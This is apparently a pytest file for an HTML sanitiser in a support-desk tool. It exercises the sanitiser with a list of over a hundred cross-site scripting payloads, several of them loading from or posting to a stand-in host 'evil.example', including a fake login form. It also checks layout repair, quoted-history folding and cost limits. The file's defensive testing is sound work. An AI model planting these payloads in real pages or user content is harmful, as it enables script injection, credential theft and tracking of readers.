"""HTML from strangers: nothing that acts gets through, what people meant stays readable, and hostile nesting costs little."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from supportops.assist.html import CleanHtml, clean, text_to_html, to_text

CIDS = {"lamp@desk": "/files/abc"}

VECTORS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script\t>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="x" ONERROR = "alert(1)">
<img src=`x` onerror=`alert(1)`>
<img src=javascript:alert(1)>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:text/html,<script>alert(1)</script>">
<img src="data:image/png;base64,AAAA" onload=alert(1)>
<img srcset="https://evil.example/x 1x">
<img src=cid:lamp@desk onclick=alert(1)>
<img src="/logout">
<img src="../admin">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="blob:https://a/b">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.example">x</a>
<a href="/logout">x</a>
<a href="#" onmouseover=alert(1)>x</a>
<a href="https://ok.example" target=_self rel=opener ping=//evil.example>x</a>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<applet code=x></applet>
<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>Log in</button></form>
<isindex action=javascript:alert(1) type=image>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import url(//evil.example/x.css);</style>
<style><!--</style><script>alert(1)//--></script>
<p style="background:url(//evil.example/x)">x</p>
<p style="background-color:\\75rl(//evil.example)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="color:red;position:fixed;top:0;left:0;z-index:9999">x</p>
<p style="behavior:url(x.htc);-moz-binding:url(x.xml)">x</p>
<p style="color:red}</style><script>alert(1)</script>">x</p>
<div style="list-style-image:url(javascript:alert(1))">x</div>
<table background=javascript:alert(1)><td background=//evil.example/x>x</table>
<body onload=alert(1) background=//evil.example/x>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea><img src=x onerror=alert(1)>
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!--!><script>alert(1)</script>
<!-- --!><script>alert(1)</script>
<![CDATA[><script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>
<p title="><script>alert(1)</script>">x</p>
<p title='"><img src=x onerror=alert(1)>'>x</p>
<p title=x"><img src=x onerror=alert(1)>">x</p>
<p title="a&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>
<b a="<b><script>">x</b><script a=">" b>alert(1)</script>
<x onclick=alert(1)>x</x>
<div id=login name=attributes class=quoted>x</div>
<custom-element is=x onclick=alert(1)>x</custom-element>
<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>
&lt;script&gt;alert(1)&lt;/script&gt;
<<script>alert(1)//<</script>
<\x00script>alert(1)</script>
<p\x0conclick=alert(1)>x</p>
<div contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>
<portal src=javascript:alert(1)></portal>
<dialog open onclose=alert(1)>x</dialog>
<keygen autofocus onfocus=alert(1)>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<img data-src="javascript:alert(1)">
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="javascript:alert(1)">x</q>
<font size="</font><script>alert(1)</script>">x</font>
""".strip().split("\n")

ELEMENTS = set(
    """a abbr address article b bdi bdo big blockquote br center cite code dd del details div dl dt em font footer h1 h2 h3 h4 h5 h6 header hr i img
    ins kbd li main mark ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var""".split()  # noqa: SIM905
)
ATTRIBUTES = set(
    """align alt bgcolor border cellpadding cellspacing class color colspan data-src dir face height href lang rel rowspan size src start style target
    title type valign width""".split()  # noqa: SIM905
)


class Judge(HTMLParser):
    """Another parser's view of what is left."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.faults += [f"<{tag}>"] * (tag not in ELEMENTS)
        for name, value in attrs:
            self.faults += [f"{tag} {name}={value}"] * (name not in ATTRIBUTES or not self.harmless(tag, name, value or ""))

    def harmless(self, tag: str, name: str, value: str) -> bool:
        if name == "href":
            return value.startswith(("https://", "http://", "mailto:", "tel:"))
        if name == "src":
            return value == "/files/abc" or value.startswith("data:image/png;base64,")
        if name == "data-src":
            return value.startswith(("https://", "http://"))
        if name == "class":
            return (tag, value) == ("details", "quoted")
        return name != "style" or not any(
            word in value.lower() for word in ("url", "expression", "position", "behavior", "\\", "script", "<")
        )

    def handle_comment(self, data):
        self.faults.append(f"<!--{data}-->")

    handle_decl = handle_pi = unknown_decl = handle_comment


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize(
    "around",
    ["{}", "<p>Hi</p>{}<p>bye</p>", "<table><tr><td>{}", '<div class="gmail_quote">x</div>{}', "<p title='{}'>x", "<!-- {}", "<b {}"],
)
def test_nothing_that_acts_gets_through(vector, around):
    cleaned = clean(around.replace("{}", vector), CIDS).html
    assert Judge(cleaned).faults == []
    assert Judge(clean(cleaned, CIDS).html).faults == []


def test_there_are_many_vectors():
    assert len(VECTORS) >= 60


FRAGMENTS = st.sampled_from(
    ["<p>", "</p>", "<b>", "</b>", "<table>", "<tr>", "<td>", "</td>", "</table>", "<div class=gmail_quote>", "</div>", "<ul>", "<li>", "x", "<a href=https://a.b>",
     "</a>", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<!--", "-->", "<script>", "alert(1)", '"', "'", ">", "<", "<img src=cid:lamp@desk>", "<textarea>",
     "<title>", "</title>", "<h1>", "<h2>", "<dl>", "<dt>", "<dd>", "<blockquote type=cite>", "</blockquote>", "<img onerror=x src=y>", "&lt;", "&#x3c;", "=", "<tbody>"]
)  # fmt: skip


@settings(deadline=None)
@given(st.lists(FRAGMENTS, max_size=40))
def test_no_mixture_of_fragments_gets_through(fragments):
    cleaned = clean("".join(fragments), CIDS).html
    assert Judge(cleaned).faults == []
    assert clean(cleaned, CIDS).html.count("<table>") == cleaned.count("<table>")


def test_what_omar_meant_stays_readable():
    html = '<p>Hi <b>Ada</b>,<br>the <a href="https://acme.example/a?b=1&amp;c=2">lamp</a> is <span style="color: red; position: fixed">broken</span>.</p>'
    assert clean(html, {}).html == (
        '<p>Hi <b>Ada</b>,<br>the <a href="https://acme.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">lamp</a> '
        'is <span style="color:red">broken</span>.</p>'
    )


def test_tables_of_sloppy_programs_come_out_whole():
    assert clean("<table>loose<tr><td>1<td>2<tr><th>3</table>", {}).html == (
        "<table><tbody><tr><td>loose</td></tr><tr><td>1</td><td>2</td></tr><tr><th>3</th></tr></tbody></table>"
    )
    assert clean("<table><thead><tr><th>h<tbody><tr>x</table>", {}).html == (
        "<table><thead><tr><th>h</th></tr></thead><tbody><tr><td>x</td></tr></tbody></table>"
    )
    assert clean("<table><td>a<table><td>b</td></table>c</td></table></td>d<td>", {}).html == (
        "<table><tbody><tr><td>a<table><tbody><tr><td>b</td></tr></tbody></table>c</td></tr></tbody></table>d"
    )
    assert clean("<table> <tr> <td>x</table>", {}).html == "<table> <tbody><tr> <td>x</td></tr></tbody></table>"
    assert clean("<table><tbody>x<img></table>", {}).html == '<table><tbody><tr><td>x<img alt=""></td></tr></tbody></table>'


def test_tags_that_were_left_open_are_closed_where_a_browser_would():
    assert clean("<p>a<p>b<ul><li>c<li>d<ul><li>e</ul></ul>", {}).html == "<p>a</p><p>b</p><ul><li>c</li><li>d<ul><li>e</li></ul></li></ul>"
    assert clean("<dl><dt>a<dd>b<dt>c</dl>", {}).html == "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"
    assert clean("<h1>a<h2>b</h2></i>c", {}).html == "<h1>a</h1><h2>b</h2>c"
    assert clean("<b>a</div></td>b", {}).html == "<b>ab</b>"
    assert clean("<div>x<table><td></div>y</table></div>", {}).html == "<div>x<table><tbody><tr><td>y</td></tr></tbody></table></div>"


def test_images_of_the_mail_are_shown_and_others_only_named():
    found = clean(
        '<img src="CID:lamp%40desk" alt="Lamp"><img src="https://track.example/1.gif" width="1"><img src="//cdn.example/b.png"><img src=cid:none>',
        CIDS,
    )
    assert found == CleanHtml(
        '<img alt="Lamp" src="/files/abc"><img alt="" width="1" data-src="https://track.example/1.gif"><img alt="" data-src="https://cdn.example/b.png"><img alt="">',
        2,
    )


def test_small_pictures_inside_the_mail_itself_are_kept():
    assert "data:image/png" in clean('<img src="data:image/png;base64,iVBORw0KGgo=">', {}).html


@pytest.mark.parametrize(
    "quote",
    [
        '<div class="gmail_quote">On Monday Ada wrote:<blockquote>old</blockquote></div>',
        '<blockquote type="cite">old</blockquote>',
        '<div class="yahoo_quoted x">old</div>',
    ],
)
def test_quoted_history_is_folded_below_new_words(quote):
    cleaned = clean(f"<p>New</p>{quote}<p>Bye</p>", {}).html
    assert '<p>New</p><details class="quoted"><summary>Quoted history</summary><' in cleaned
    assert cleaned.endswith("</details><p>Bye</p>")
    assert cleaned.count("<details") == 1


def test_outlook_marks_only_where_the_history_begins():
    cleaned = clean('<div><p>New</p><div id="x_divRplyFwdMsg">From: Ada</div><div>old</div></div><p>after</p>', {}).html
    assert cleaned.endswith("<div>From: Ada</div><div>old</div></details></div><p>after</p>")


def test_a_forwarded_mail_is_not_folded_away():
    assert "<details" not in clean('<div class="gmail_quote">Forwarded: pay</div>', {}).html


def test_a_picture_counts_as_new_words():
    assert "<details" in clean('<img src="cid:lamp@desk"><blockquote type=cite>old</blockquote>', CIDS).html


def test_nesting_beyond_reason_is_flattened_and_said():
    found = clean("<div>" * 5000 + "deep", {})
    assert found.html.count("<div>") == 100
    assert "deep" in found.html
    assert found.problems == ("The HTML is nested more than 100 deep; deeper formatting was left out.",)


def test_beyond_a_megabyte_only_the_words_are_shown():
    found = clean("<p>Hi</p>" + "<b>x</b>" * 130_000, {})
    assert found.html.startswith("<pre>Hi\n")
    assert found.problems[0].startswith("The HTML is larger than 1 MB")


@pytest.mark.parametrize(
    "hostile",
    ["<div>", "<b a=1>", "<table>", "<", "<!--", "<svg>", '<a b="', "<p><b>", "<tr><td>x", "&amp;", "<table><b>x<tr></tr>", "<a href=http://x>x", "<a =", "</p>",
     "<p>x<table>", "<li>", "<style>", "<title>", "<img src=http://a/b>", "<blockquote type=cite>x"],
)  # fmt: skip
def test_hostile_html_costs_no_more_than_its_length(hostile):
    start = time.process_time()
    found = clean(hostile * (250_000 // len(hostile)), {})
    assert time.process_time() - start < 3  # a third of a second, and slow machines; nested tags alone cost the sanitiser 19 s
    assert len(found.html) < 3_000_000


def test_formatting_left_open_does_not_multiply():
    html = "<p>" + "".join(f'<b style="width:{n}px">' for n in range(95)) + "<div>x</div>" * 15_000
    assert len(clean(html, {}).html) < 2 * len(html)


def test_html_reads_as_text():
    assert to_text("<p>Hi&nbsp;Ada</p><p>The lamp<br>broke.</p>") == "Hi Ada\n\nThe lamp\nbroke."


def test_our_own_words_become_paragraphs_with_links():
    assert text_to_html("Hi <Omar> & co,\r\n\r\nsee https://desk.example/a?b=1&c=2.\nBye") == (
        "<p>Hi &lt;Omar&gt; &amp; co,</p>\n"
        '<p>see <a href="https://desk.example/a?b=1&amp;c=2" rel="noopener noreferrer">https://desk.example/a?b=1&amp;c=2</a>.<br>\nBye</p>'
    )
    assert text_to_html(" \n\n ") == ""


@given(st.text(alphabet=st.sampled_from("<>\"'&ahtps:/. \n")))
def test_no_words_of_ours_become_markup(text):
    assert [fault for fault in Judge(text_to_html(text)).faults if "noopener" not in fault] == []
